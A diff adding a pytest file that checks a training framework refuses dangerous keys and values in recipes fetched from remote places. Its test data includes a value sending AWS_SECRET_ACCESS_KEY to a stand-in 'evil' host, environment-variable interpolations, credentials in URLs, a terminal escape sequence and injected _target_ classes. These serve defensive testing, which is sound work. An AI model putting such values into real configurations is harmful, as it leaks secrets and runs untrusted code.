@@ -1,0 +1,83 @@
+"""What a recipe may say, by its place."""
+
+import pytest
+
+from dtrain.place import Place
+from dtrain.policy import refused
+from dtrain.words import Word, text
+
+LOCAL, REMOTE, OWN = Place("mine.yaml", "local"), Place("https://host/mine.yaml", "remote"), Place("recipes/digits.yaml", "own")
+
+
+def said(key: str, value: object, place: Place) -> list[str]:
+    return list(refused(Word(key, value, text(value), f"{place}:1"), place))
+
+
+@pytest.mark.parametrize("place", [LOCAL, REMOTE, OWN])
+@pytest.mark.parametrize("key", ["trust", "out", "out_options.key", "hydra.searchpath", "hydra.run.dir", "sweep.out"])
+def test_no_recipe_says_whom_to_trust_or_where_to_write(key: str, place: Place) -> None:
+    assert f"{key.split('.')[0]} cannot come from a recipe" in said(key, "x", place)[0]
+
+
+FOREIGN = {
+    "loop": "mine.loop",
+    "launcher.address": "evil:1",
+    "data.cache": "/home",
+    "data.dataset.cache": "/home",
+    "launcher._target_": "mine.Launcher",
+    "backend._target_": "mine.Backend",
+    "checkpoint._target_": "mine.Save",
+    "logger.mine._target_": "mine.Logger",
+    "hook.mine._target_": "mine.Hook",
+    "hook.fault._target_": "dtrain.testing.faults.AtStep",
+    "data.path": "https://evil/${oc.env:AWS_SECRET_ACCESS_KEY}",
+    "data.root": "${ oc.env:HOME }",
+    "data.name": "${oc.decode:x}",
+    "model.a": "\\${oc.env:HOME}",
+    "model.b": "${model.${oc.env:HOME}}",
+    "model.c": ["x", {"d": "${env:HOME}"}],
+    "model.e": "${out}",
+    "model.f": "${out_options.key}",
+    "model.g": "${secret:logger.x.key}",
+    "model.h": "$${model.a}{oc.env:HOME}${",
+    "init": "s3://key:secret@bucket/run",
+    "data.url": "https://host/a?X-Amz-Signature=abcdef",
+    "generate.prompt": "\x1b]0;owned\x07",
+    "model.blocks": [{"_target_": "x"}, {"path": "${oc.env:HOME}"}],
+}
+
+
+@pytest.mark.parametrize("key", FOREIGN)
+def test_a_recipe_from_elsewhere_stays_off_the_machine(key: str) -> None:
+    sentences = said(key, FOREIGN[key], REMOTE)
+    assert sentences and all("from elsewhere" in one or "of elsewhere" in one for one in sentences)
+    assert all(one.isprintable() for one in sentences)
+
+
+@pytest.mark.parametrize("key", set(FOREIGN) - {"generate.prompt"})
+def test_a_recipe_of_this_machine_may(key: str) -> None:
+    assert said(key, FOREIGN[key], LOCAL) == []
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("loop", "dtrain.train.train"), ("launcher.address", None), ("data.cache", None), ("model._target_", "mine.Net"), ("hook.sample._target_", "dtrain.hook.sample.Sample"),
+        ("model.width", "${model.heads}"), ("generate.prompt", "costs $5 {x}"), ("data.path", "https://host/text"), ("logger.x.key", "${secret:logger.x.key}"),
+        ("model.name", "a\u200db é 語"),
+    ],
+)  # fmt: skip
+def test_a_recipe_from_elsewhere_says_what_a_model_learns(key: str, value: object) -> None:
+    assert said(key, value, REMOTE) == []
+
+
+@pytest.mark.parametrize(
+    "small", ["out=/etc", "trust=[os]", "hydra.searchpath=[x]", "recipe=evil.yaml", "++out=x", "-m", "steps", "expect.small=[x]", "a b=1", "~model=x"]
+)
+def test_what_makes_a_recipe_small_obeys_the_same(small: str) -> None:
+    assert said("expect.small", [small], OWN)
+
+
+def test_small_words_are_judged_as_those_of_their_place() -> None:
+    assert said("expect.small", ["loop=mine.loop"], REMOTE)
+    assert said("expect.small", ["steps=50", "model.layers=2"], REMOTE) == []
